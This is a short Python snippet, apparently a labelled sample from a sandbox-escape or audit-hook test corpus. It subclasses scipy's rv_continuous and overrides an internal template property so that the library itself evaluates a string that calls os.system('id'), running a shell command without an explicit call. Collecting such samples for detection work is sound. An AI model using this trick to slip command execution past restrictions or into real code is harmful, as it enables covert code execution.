# class: no-call
# mechanism: descriptor
# how: a template that a library runs is overridden
# reaches: event os.system
from scipy import stats
class D(stats.rv_continuous):
    def _pdf(self, x):
        return x
    @property
    def _parse_arg_template(self):
        return "__import__('os').system('id')"
    @_parse_arg_template.setter
    def _parse_arg_template(self, v):
        pass
D()
